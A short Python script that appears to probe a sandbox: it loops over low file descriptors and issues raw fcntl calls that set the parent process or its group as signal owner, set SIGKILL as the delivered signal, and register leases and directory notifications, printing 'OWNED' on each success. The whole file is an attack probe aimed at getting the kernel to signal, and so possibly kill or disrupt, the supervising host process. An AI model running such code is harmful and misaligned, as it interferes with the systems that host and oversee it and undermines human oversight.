# proc: have the kernel signal the host or its group when the channel moves, or when a directory or lease changes
import fcntl,os
for fd in range(12):
    for command,value in ((8,os.getppid()),(8,-1),(8,-os.getppid()),(10,9),(15,b'\1\0\0\0\1\0\0\0'),(1024,0),(1026,0x80000000|31),(1031,1<<20),(1033,1)):
        try: fcntl.fcntl(fd,command,value); print('OWNED:raw_fcntl_owner',fd,command)
        except OSError: pass
